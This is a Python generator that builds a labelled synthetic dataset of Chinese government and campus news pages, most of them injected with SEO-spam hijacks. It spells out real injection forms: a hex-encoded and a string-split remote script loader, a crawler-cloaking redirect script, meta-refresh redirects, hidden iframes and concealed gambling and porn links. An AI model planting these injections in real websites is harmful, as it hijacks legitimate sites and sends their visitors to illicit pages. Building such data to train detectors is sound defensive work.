#!/usr/bin/env python3
"""Generate synthetic-v22 (40 pages: 28 hijacked, 12 clean of which 4 legit) into the sibling folder
../synthetic-v22/ wherever this generator sits. Fixed seed: a re-run is byte-identical."""
import json, os, random, html as H

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(os.path.dirname(HERE), "synthetic-v22")
R = random.Random(2222)

BR_GAMBLE = ["翠澜汇娱乐", "霆胜体育", "沐辰彩票", "星澜棋牌", "黛港真人", "银穗国际", "栖霞阁娱乐城", "蓝鲸捕鱼彩金", "锦鲤百家乐", "赤焰电竞竞猜"]
BR_PORN = ["雅蔻影院", "夜莺私享视频"]

ORGS = [("澄江县农业农村局", "gov", "cjnyj.gov.cn"), ("梧溪市市场监督管理局", "gov", "wxscjg.gov.cn"),
        ("临川区教育体育局", "gov", "lcjyt.gov.cn"), ("青岚职业技术学院", "edu", "qlvtc.edu.cn"),
        ("北澍师范学院", "edu", "bsnu.edu.cn"), ("南屏镇人民政府", "gov", "nanping.gov.cn"),
        ("云岫县卫生健康局", "gov", "yxwjj.gov.cn"), ("鹤汀理工大学", "edu", "htut.edu.cn"),
        ("泸溪市人力资源和社会保障局", "gov", "lxrsj.gov.cn"), ("江屿医学院", "edu", "jymc.edu.cn")]
PEOPLE = ["陈嘉宁", "刘曦", "王启航", "赵若溪", "孙明哲", "周婉清", "吴承泽", "郑书瑶", "冯立群", "何静姝"]

ARTS = [
 ("{org}召开2024年度安全生产工作部署会", [
  "{m}月{d}日上午，{org}召开年度安全生产工作部署会，传达学习上级有关会议精神，分析当前安全生产形势，部署下一阶段重点任务。",
  "会议指出，各科室、各单位要牢固树立安全发展理念，压紧压实安全生产责任，对照问题清单逐项整改，确保隐患排查不留死角。",
  "会议要求，要加强值班值守和应急演练，完善信息报送机制，遇有突发情况第一时间报告、第一时间处置。"]),
 ("{org}开展“春风行动”送岗位下基层活动", [
  "为帮助城乡劳动者实现就业，{m}月{d}日，{org}在城区广场举办“春风行动”专场招聘会，共组织62家企业提供岗位1800余个。",
  "活动现场设置政策咨询台、技能培训报名点和创业指导区，工作人员为求职者解读就业补贴和社保政策，发放宣传资料3000余份。",
  "据统计，当天进场求职人员约2400人次，初步达成就业意向560人。"]),
 ("{org}举办青年教师教学能力提升培训", [
  "{m}月{d}日至{d2}日，{org}举办青年教师教学能力提升培训班，来自各二级学院的86名青年教师参加培训。",
  "培训围绕课程思政、教学设计、课堂组织与信息化教学等内容展开，邀请省内教学名师作专题报告，并安排了分组说课和现场点评。",
  "参训教师表示，培训内容贴近教学实际，对改进课堂教学、提升育人质量很有帮助。"]),
 ("{org}组织开展食品安全专项检查", [
  "为保障节日期间群众饮食安全，{m}月{d}日，{org}组织执法人员对辖区超市、农贸市场和餐饮单位开展食品安全专项检查。",
  "检查重点包括进货查验记录、索证索票、食品贮存条件以及过期变质食品清理等情况，共检查经营主体47家，发现问题9处，已责令限期整改。",
  "下一步，将持续加大监督抽检力度，对违法违规行为依法严肃查处。"]),
 ("{org}召开党纪学习教育警示教育大会", [
  "{m}月{d}日，{org}召开党纪学习教育警示教育大会，组织全体党员干部观看警示教育片，通报近期典型案例。",
  "会议强调，要以案为鉴、以案促改，把纪律规矩挺在前面，持续深化作风建设，营造风清气正的干事创业环境。",
  "与会人员纷纷表示，将以更严要求、更实作风履职尽责，坚决守住纪律底线。"]),
 ("{org}召开秋冬季森林防火工作推进会", [
  "{m}月{d}日下午，{org}召开秋冬季森林防火工作推进会，总结前期工作，安排部署下一阶段森林防火任务。",
  "会议要求，各村要严格落实网格化管理责任，加强野外用火管控和入山人员登记，扎实做好扑火物资储备和队伍建设。",
  "会上，与会人员还观看了森林防火宣传片，签订了森林防火目标责任书。"]),
 ("{org}举行2024届毕业生就业双选会", [
  "{m}月{d}日，{org}2024届毕业生就业双选会在体育馆举行，共有来自长三角、珠三角等地区的210家用人单位参会，提供岗位4300余个。",
  "双选会期间，学校设置了就业指导、简历诊断和政策咨询服务区，帮助毕业生精准对接岗位需求。",
  "据初步统计，当天进场学生3100余人次，达成初步签约意向900余人。"]),
 ("{org}开展基层医疗卫生机构服务能力评估", [
  "近日，{org}组织专家组对辖区12家乡镇卫生院开展服务能力评估，评估内容涵盖基本医疗、公共卫生、药品管理和院感防控等方面。",
  "专家组通过查阅资料、现场查看和人员访谈等方式，逐项对照评价标准打分，并当场反馈存在的问题和改进建议。",
  "评估结果将作为年度绩效考核的重要依据。"]),
]
LEGIT = [
 ("{org}开展体育彩票公益金使用情况专项检查", [
  "{m}月{d}日，{org}会同财政部门对2023年度体育彩票公益金使用情况开展专项检查，重点核查资金拨付、项目实施和绩效目标完成情况。",
  "检查组指出，彩票公益金专款专用，必须严格按照规定用途使用，对资金闲置、挪用等问题要立行立改。",
  "下一步，将建立公益金项目台账，定期向社会公开资金使用情况，接受群众监督。"]),
 ("{org}集中宣传打击整治跨境赌博工作", [
  "为提高群众识赌防赌意识，{m}月{d}日，{org}联合公安机关在城区开展打击整治跨境赌博集中宣传活动。",
  "工作人员通过发放宣传册、讲解典型案例等方式，向群众揭示网络赌博、“杀猪盘”等违法犯罪手段，提醒群众不参与、不传播、不出租出借银行卡。",
  "活动共发放宣传资料2600余份，接受群众咨询300余人次。"]),
 ("{org}关于规范福利彩票销售网点管理的通知", [
  "各销售网点：为加强福利彩票销售管理，维护彩票市场秩序，现就有关事项通知如下。",
  "一、严禁向未成年人销售彩票，严禁以赊销、信用方式销售彩票，严禁利用互联网擅自销售彩票。",
  "二、各网点应在显著位置张贴“未成年人不得购买彩票”等提示标识，对违规行为一经查实将依规处理。"]),
 ("{org}举办防范网络赌博主题讲座", [
  "{m}月{d}日，{org}邀请辖区派出所民警走进校园，为学生举办防范网络赌博主题讲座。",
  "民警结合真实案例，讲解了网络赌博平台诱导充值、虚假返利等常见套路，提醒学生警惕“刷单兼职”“游戏代练”背后的赌博陷阱。",
  "讲座结束后，学生们签署了拒绝赌博承诺书。"]),
]

def fmt(s, k):
    return s.format(**k)

def make_article(i, legit=False):
    org, kind, host = ORGS[i % len(ORGS)]
    if legit:
        src = LEGIT[i % 4]
    else:
        pool = [ARTS[j] for j in ((2, 6) if kind == "edu" else (0, 1, 3, 4, 5, 7))]
        src = pool[(i // 2) % len(pool)]
    y = R.choice([2023, 2024, 2025]); m = R.randint(1, 12); d = R.randint(1, 25)
    k = dict(org=org, m=m, d=d, d2=d + 2)
    title = fmt(src[0], k)
    paras = [fmt(p, k) for p in src[1]]
    author = R.choice(PEOPLE + [None, None])
    source = R.choice([org, org.replace("人民政府", "党政办公室"), "本站", "办公室"])
    return dict(org=org, kind=kind, host=host, title=title, paras=paras, date="%d-%02d-%02d" % (y, m, d),
                author=author, source=source, views=R.randint(120, 9800))

# ---------------- templates (T1..T6) ----------------
def byline(a, style):
    au = a["author"] or ""
    if style == 0:
        return '<div class="art-info">发布时间：%s&nbsp;&nbsp;来源：%s&nbsp;&nbsp;%s浏览次数：%d</div>' % (
            a["date"], a["source"], ("作者：%s&nbsp;&nbsp;" % au) if au else "", a["views"])
    if style == 1:
        return ('<table class="xxgk-meta"><tr><th>索引号</th><td>%s-%04d</td><th>发布机构</th><td>%s</td></tr>'
                '<tr><th>成文日期</th><td>%s</td><th>来源</th><td>%s</td></tr></table>') % (
            a["host"].split(".")[0], a["views"], a["org"], a["date"], a["source"])
    if style == 2:
        return '<p class="meta"><span>%s</span> <span>来源：%s</span>%s <span>阅读：%d</span></p>' % (
            a["date"].replace("-", "/"), a["source"], (" <span>作者：%s</span>" % au) if au else "", a["views"])
    return '<div class="sub">【来源：%s】【日期：%s】%s【点击：%d】</div>' % (
        a["source"], a["date"], ("【编辑：%s】" % au) if au else "", a["views"])

def body_html(a, extra_mid=""):
    ps = ["<p>%s</p>" % H.escape(p) for p in a["paras"]]
    if extra_mid:
        ps.insert(1, extra_mid)
    return "\n".join(ps)

def T1(a, inj):  # Z-Blog-like
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{inj.get('title', a['title'] + ' - ' + a['org'])}</title>
{inj.get('head','')}<link rel="stylesheet" href="/zb_users/theme/govblue/style/style.css"></head>
<body>{inj.get('top','')}<div id="divAll"><div id="divPage"><div id="divTop"><h1 id="BlogTitle">{a['org']}</h1></div>
<div id="divMain"><div class="post single"><h2 class="post-title">{a['title']}</h2>
{byline(a, 0)}<div class="post-body">
{body_html(a, inj.get('mid',''))}
</div>{inj.get('after','')}</div></div>
<div id="divSidebar"><dl class="function"><dt>最新文章</dt><dd><ul><li>关于做好年度统计工作的通知</li><li>政务公开工作要点</li></ul></dd></dl>{inj.get('side','')}</div>
<div id="divBottom"><p>版权所有：{a['org']} 备案号：略</p>{inj.get('foot','')}</div></div></div>{inj.get('end','')}</body></html>"""

def T2(a, inj):  # Typecho-like
    return f"""<!DOCTYPE HTML>
<html><head><meta charset="UTF-8"><meta name="generator" content="Typecho 1.2"><title>{inj.get('title', a['title'] + ' » ' + a['org'])}</title>
{inj.get('head','')}</head><body>{inj.get('top','')}
<header id="header"><div class="site-name"><a href="/">{a['org']}</a></div></header>
<div id="body"><div class="container"><div class="col-mb-12 col-8" id="main">
<article class="post" itemscope itemtype="http://schema.org/BlogPosting">
<h1 class="post-title" itemprop="name headline">{a['title']}</h1>
<ul class="post-meta"><li>时间：<time datetime="{a['date']}">{a['date']}</time></li><li>来源：{a['source']}</li>{('<li>作者：%s</li>' % a['author']) if a['author'] else ''}</ul>
<div class="post-content" itemprop="articleBody">
{body_html(a, inj.get('mid',''))}
</div></article>{inj.get('after','')}</div>
<div class="col-mb-12 col-offset-1 col-3" id="secondary"><section class="widget"><h3 class="widget-title">栏目</h3><ul><li>通知公告</li><li>工作动态</li></ul></section>{inj.get('side','')}</div></div></div>
<footer id="footer">&copy; {a['org']}{inj.get('foot','')}</footer>{inj.get('end','')}</body></html>"""

def T3(a, inj):  # YzmCMS-like, GBK
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk" />
<title>{inj.get('title', a['title'] + '_' + a['org'])}</title>{inj.get('head','')}</head>
<body>{inj.get('top','')}<div class="yzm-header"><div class="logo">{a['org']}</div><ul class="yzm-nav"><li>首页</li><li>机构概况</li><li>新闻中心</li><li>政务公开</li></ul></div>
<div class="yzm-container"><div class="yzm-location">当前位置：首页 &gt; 新闻中心 &gt; 工作动态</div>
<div class="yzm-content-box"><h1 class="yzm-title">{a['title']}</h1>{byline(a, 3)}
<div class="yzm-content">
{body_html(a, inj.get('mid',''))}
</div>{inj.get('after','')}<div class="yzm-prev">上一篇：无</div></div><div class="yzm-right">{inj.get('side','')}</div></div>
<div class="yzm-footer">主办单位：{a['org']}{inj.get('foot','')}</div>{inj.get('end','')}</body></html>"""

def T4(a, inj):  # ThinkCMF-like, GB18030
    return f"""<!doctype html>
<html><head><meta charset="gb18030"><title>{inj.get('title', a['title'] + ' | ' + a['org'])}</title>{inj.get('head','')}
<link href="/themes/simpleboot3/public/assets/css/style.css" rel="stylesheet"></head>
<body class="body-white">{inj.get('top','')}<nav class="navbar navbar-default"><a class="navbar-brand">{a['org']}</a></nav>
<div class="container tc-main"><div class="row"><div class="col-md-9"><div class="tc-box article-box">
<h2>{a['title']}</h2>{byline(a, 2)}<hr>
<div id="article_content">
{body_html(a, inj.get('mid',''))}
</div>{inj.get('after','')}</div></div><div class="col-md-3">{inj.get('side','')}</div></div></div>
<div class="container"><div class="footer">{a['org']} 版权所有{inj.get('foot','')}</div></div>{inj.get('end','')}</body></html>"""

def T5(a, inj):  # gov 信息公开 portal (jpaas-like)
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="SiteName" content="{a['org']}"><meta name="ArticleTitle" content="{a['title']}">
<meta name="PubDate" content="{a['date']} 09:30"><meta name="ContentSource" content="{a['source']}">
<title>{inj.get('title', a['title'])}</title>{inj.get('head','')}</head>
<body>{inj.get('top','')}<div class="gov-head"><img src="/images/guohui.png" alt=""><span>{a['org']}</span></div>
<div class="gov-crumb">您所在的位置：首页 &gt; 政府信息公开 &gt; 法定主动公开内容</div>
<div class="gov-article">{byline(a, 1)}<h1 class="gov-tit">{a['title']}</h1>
<div class="gov-txt" id="zoom">
{body_html(a, inj.get('mid',''))}
</div>{inj.get('after','')}<div class="gov-tools">【打印本页】【关闭窗口】</div></div><div class="gov-related">{inj.get('side','')}</div>
<div class="gov-foot"><p>网站标识码：略　主办：{a['org']}</p>{inj.get('foot','')}</div>{inj.get('end','')}</body></html>"""

def T6(a, inj):  # MkDocs/static-site-like campus news
    return f"""<!DOCTYPE html>
<html lang="zh"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>{inj.get('title', a['title'] + ' — ' + a['org'] + '新闻网')}</title>
{inj.get('head','')}</head><body data-md-color-scheme="default">{inj.get('top','')}
<header class="md-header"><div class="md-header__title">{a['org']}新闻网</div></header>
<div class="md-container"><main class="md-main"><div class="md-content"><article class="md-content__inner md-typeset">
<h1>{a['title']}</h1>
<aside class="md-source-date"><small>{a['date']} · {a['source']}{(' · 文/' + a['author']) if a['author'] else ''}</small></aside>
{body_html(a, inj.get('mid',''))}
{inj.get('after','')}</article></div></main><nav class="md-nav">{inj.get('side','')}</nav></div>
<footer class="md-footer"><div class="md-copyright">Copyright &copy; {a['org']}</div>{inj.get('foot','')}</footer>{inj.get('end','')}</body></html>"""

TEMPLATES = [("T1", T1, "utf-8"), ("T2", T2, "utf-8"), ("T3", T3, "gbk"), ("T4", T4, "gb18030"), ("T5", T5, "utf-8"), ("T6", T6, "utf-8")]

def dom(b):
    return "%s%d.com" % ("".join(R.choice("abcdefghjkmnpqrstuvwxyz") for _ in range(5)), R.randint(10, 999))

# ---------------- injection forms ----------------
def f_hidden_div(a, b):
    s = b + "官网"
    d = dom(b)
    return dict(end='<div style="display:none"><a href="https://%s/">%s</a> <a href="https://%s/app">%s下载</a></div>' % (d, s, d, b)), [s, b + "下载"], "hidden-link-block"

def f_offscreen(a, b):
    s = b + "注册送彩金"
    return dict(foot='<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://%s/">%s</a></div>' % (dom(b), s)), [s], "offscreen-link-block"

def f_ua_cloak(a, b):
    d = dom(b)
    js = ('<script>var ua=navigator.userAgent.toLowerCase();if(/baiduspider|sogou|360spider/.test(ua)){document.title="%s_%s官方入口";}'
          'else if(document.referrer.indexOf("baidu.com")>0){window.location.href="https://%s/";}</script>') % (b, b, d)
    return dict(head=js), [b + "官方入口", b], "ua-referrer-cloak-script"

def f_hex_loader(a, b):
    d = dom(b)
    raw = '<script src="https://%s/tj.js"></script>' % d
    enc = "".join("\\x%02x" % ord(c) for c in raw)
    return dict(head='<script type="text/javascript">document.write("%s");</script>' % enc), [], "hex-script-loader"

def f_bracket_loader(a, b):
    d = dom(b)
    return dict(end='<script>window["doc"+"ument"]["wr"+"ite"]("<scr"+"ipt src=\'//%s/c.js\'></scr"+"ipt>");</script>' % d), [], "bracket-js-loader"

def f_docwrite(a, b):
    s = b + "：真人视讯·体育投注·电子游艺"
    return dict(after='<script>document.write(\'<div class="tj"><a href="https://%s/">%s</a></div>\');</script>' % (dom(b), s)), [s], "document-write-spam"

def f_spam_title(a, b):
    t = "%s-%s官网-%sAPP下载" % (b, b, b)
    return dict(title=t), [t, b], "spam-title"

def f_body_line(a, b):
    s = "【%s】最新网址：%s 注册即送88元" % (b, dom(b))
    return dict(mid='<p>%s</p>' % s), [s, b], "spam-line-in-body"

def f_credit(a, b):
    s = "技术支持：" + b
    return dict(foot='<p class="tech">%s</p>' % s), [b], "brand-credit"

def f_sold_links(a, b):
    others = [x for x in BR_GAMBLE if x != b][:3]
    links = "".join('<a href="https://%s/">%s</a> ' % (dom(x), x) for x in [b] + others)
    return dict(side='<div class="yqlj"><h3>友情链接</h3>%s</div>' % links), [b] + others, "sold-friend-links"

def f_meta_refresh(a, b):
    d = dom(b)
    return dict(head='<meta http-equiv="refresh" content="0;url=https://%s/?from=gov">' % d,
                top='<noscript><a href="https://%s/">%s欢迎您</a></noscript>' % (d, b)), [b + "欢迎您"], "meta-refresh"

def f_takeover(a, b):
    s = "%s|%s手机版|%s官方网站" % (b, b, b)
    top = '<div class="kw-head"><h1>%s</h1><p>%s为您提供最新最全的娱乐资讯，点击进入%s。</p></div>' % (s, b, b)
    return dict(title=s, top=top), [s, b + "为您提供最新最全的娱乐资讯", b], "whole-page-takeover"

def f_porn_line(a, b):
    s = "%s_%s在线观看_无码高清免费" % (b, b)
    return dict(top='<div class="gg">%s</div>' % s, title=s), [s, b], "porn-keyword-line"

def f_iframe(a, b):
    return dict(end='<iframe src="https://%s/ad.html" width="0" height="0" frameborder="0" style="visibility:hidden"></iframe>' % dom(b)), [], "hidden-iframe"

FORMS = [f_hidden_div, f_offscreen, f_ua_cloak, f_hex_loader, f_bracket_loader, f_docwrite, f_spam_title,
         f_body_line, f_credit, f_sold_links, f_meta_refresh, f_takeover, f_porn_line, f_iframe]

def main():
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    plan = []
    for fi, f in enumerate(FORMS):
        for rep in range(2):
            plan.append(("hij", f))
    for i in range(8):
        plan.append(("clean", None))
    for i in range(4):
        plan.append(("legit", None))
    for n, (what, f) in enumerate(plan):
        pid = "sv22-%03d" % (n + 1)
        tname, tfun, enc = TEMPLATES[(n * 5 + n // 6) % 6]
        a = make_article(n, legit=(what == "legit"))
        inj, spam, form = {}, [], None
        if f is not None:
            b = R.choice(BR_PORN) if f is f_porn_line else R.choice(BR_GAMBLE)
            inj, spam, form = f(a, b)
        page = tfun(a, inj)
        url = "http://www.%s/%s/%d/%s.html" % (a["host"], R.choice(["xwzx", "gzdt", "tzgg", "info"]), R.randint(1000, 9999), pid)
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as fh:
            fh.write(page.encode(enc))
        rows.append(dict(id=pid, url=url, title=a["title"], date=a["date"], source=a["source"], author=a["author"],
                         text="\n".join(a["paras"]), hijacked=f is not None, injections=[form] if form else [],
                         spam_strings=spam, legit=what == "legit", lang="zh", origin="synthetic-generator-v22",
                         kind="synthetic", site=a["kind"], capture="html", encoding=enc, template=tname))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
